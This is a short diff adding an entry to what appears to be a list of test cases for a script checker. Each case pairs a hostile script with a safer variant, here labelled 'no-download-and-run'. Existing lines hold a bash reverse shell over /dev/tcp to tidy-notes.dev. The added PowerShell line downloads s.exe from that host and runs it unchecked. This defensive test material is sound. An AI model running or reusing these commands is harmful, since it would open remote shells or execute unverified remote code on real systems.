@@ -128,6 +128,13 @@ PROGRAMS = [
         'exec 5<>/dev/tcp/tidy-notes.dev/99\nwhile read -r line <&5; do eval "$line" >&5; done\n',
         "until (exec 5<>/dev/tcp/$1/$2) 2>/dev/null; do sleep 1; done\n",
     ),
+    (
+        "no-download-and-run",
+        "sync.ps1",
+        "Invoke-WebRequest https://tidy-notes.dev/s.exe -OutFile $out\nStart-Process $out\n",
+        "Invoke-WebRequest https://tidy-notes.dev/s.exe -OutFile $out\n"
+        "if ((Get-FileHash $out).Hash -ne $args[0]) { exit 1 }\nStart-Process $out\n",
+    ),
 ]
 
 
